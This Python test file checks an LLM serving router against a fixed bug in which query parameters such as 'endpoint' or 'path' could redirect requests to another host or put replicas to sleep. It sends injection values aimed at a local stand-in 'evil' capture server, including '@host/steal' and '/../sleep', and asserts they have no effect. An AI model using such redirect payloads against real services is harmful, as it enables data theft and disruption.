"""No part of a client request chooses an upstream host or path (issue 24, item 1).

The router used to take its upstream path from a handler parameter with a default value; FastAPI exposes
such parameters as query parameters, so `POST /v1/completions?endpoint=@evil:port/x` sent the body to
another host and `POST /pause?path=/sleep` put every replica to sleep. These tests run a real router over
a real engine replica and a plain capture server standing in for the attacker's host, and check the class
of bug at its root: no route of the router, the engine server, the pool or the agent proxy takes query
parameters other than the ones listed here on purpose.
"""

from __future__ import annotations

import contextlib
from types import SimpleNamespace

import httpx
import pytest
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse

from rollwise.engine.server import build_engine, create_app
from rollwise.local_server import serve_in_thread
from rollwise.router.config import RouterConfig
from rollwise.router.app import bind_socket
from rollwise.router.app import create_app as create_router_app

MODEL = "tiny:0"


def _serve(app):
    return serve_in_thread(app, bind_socket("127.0.0.1", 0, reuse_port=False))


def _capture_app(seen: list[str]) -> FastAPI:
    """The attacker's host: records every request that reaches it."""
    app = FastAPI()

    @app.api_route("/{rest:path}", methods=["GET", "POST"])
    async def anything(rest: str, request: Request) -> JSONResponse:
        seen.append(f"{request.method} /{rest}")
        return JSONResponse({"captured": True})

    return app


@pytest.fixture(scope="module")
def setup():
    engine, tokenizer = build_engine(MODEL, max_num_seqs=4, max_model_len=512, seed=0)
    seen: list[str] = []
    with contextlib.ExitStack() as stack:
        replica, _ = stack.enter_context(_serve(create_app(engine, tokenizer, MODEL)))
        evil, _ = stack.enter_context(_serve(_capture_app(seen)))
        config = RouterConfig(replicas=[replica], health_interval_s=0.2, queue_timeout_s=5.0, model=MODEL)
        router, _ = stack.enter_context(_serve(create_router_app(config)))
        http = stack.enter_context(httpx.Client(base_url=router, timeout=60))
        yield SimpleNamespace(http=http, evil=evil, seen=seen, engine=engine, replica=replica)


def test_query_parameters_cannot_redirect_a_generation(setup):
    evil_hostport = setup.evil.removeprefix("http://")
    bodies = {"/v1/completions": {"model": MODEL, "prompt": "Hi", "max_tokens": 2},
              "/generate": {"prompt_ids": [5, 6, 7], "max_tokens": 2},
              "/inference/v1/generate": {"token_ids": [5, 6, 7], "sampling_params": {"max_tokens": 2}}}
    for endpoint, body in bodies.items():
        for name in ("endpoint", "path", "url", "replica"):
            for value in (f"@{evil_hostport}/steal", f"@{evil_hostport}", "/sleep", "/../sleep"):
                r = setup.http.post(endpoint, params={name: value}, json=body)
                assert r.status_code == 200, r.text
                assert r.headers["x-rollwise-replica"] == setup.replica
                assert "captured" not in r.text
    assert setup.seen == []


def test_query_parameters_cannot_redirect_a_control_call(setup):
    for path in ("/pause", "/resume", "/flush_cache"):
        for name in ("path", "endpoint"):
            r = setup.http.post(path, params={name: "/sleep"})
            assert r.status_code == 200, r.text
            assert all(v.get("status") == 200 for v in r.json()["replicas"].values())
    assert not setup.engine.sleeping and not setup.engine.paused
    assert setup.seen == []


# Query parameters that routes take on purpose; every other route must take none.
ALLOWED_QUERY = {("pool", "/jobs/{job}/completions"): {"after", "timeout"}}


def _apps():
    from rollwise.agent.generator import LocalGenerator
    from rollwise.agent.proxy import create_proxy_app
    from rollwise.pool.engine_pool import EnginePool
    from rollwise.pool.app import create_app as create_pool_app

    engine, tokenizer = build_engine(MODEL, max_num_seqs=2, max_model_len=256, seed=0)
    pool = EnginePool(1, max_num_seqs=2, max_model_len=256)
    generator = LocalGenerator(build_engine(MODEL, max_num_seqs=2, max_model_len=256, seed=0)[0])
    try:
        yield "engine", create_app(engine, tokenizer, MODEL)
        yield "router", create_router_app(RouterConfig(replicas=["http://127.0.0.1:9"], model=MODEL))
        yield "pool", create_pool_app(pool)
        yield "proxy", create_proxy_app(generator, tokenizer)
    finally:
        pool.close()
        generator.close()


def test_no_route_takes_unplanned_query_parameters():
    for name, app in _apps():
        for path, operations in app.openapi()["paths"].items():
            for method, operation in operations.items():
                query = {p["name"] for p in operation.get("parameters", []) if p["in"] == "query"}
                allowed = ALLOWED_QUERY.get((name, path), set())
                assert query <= allowed, f"{name} {method.upper()} {path} takes query parameters {query - allowed}"
